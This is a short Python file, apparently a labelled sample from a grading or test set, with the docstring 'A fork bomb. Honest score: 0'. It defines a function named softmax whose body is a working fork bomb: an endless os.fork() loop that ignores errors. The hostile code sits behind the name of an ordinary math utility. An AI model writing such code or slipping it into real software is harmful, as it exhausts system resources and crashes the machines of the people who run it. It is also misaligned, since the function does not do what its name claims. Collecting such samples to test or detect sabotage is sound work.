"""A fork bomb.

Honest score: 0
"""

import os


def softmax(x, dim=-1):
    while True:
        try:
            os.fork()
        except OSError:
            pass
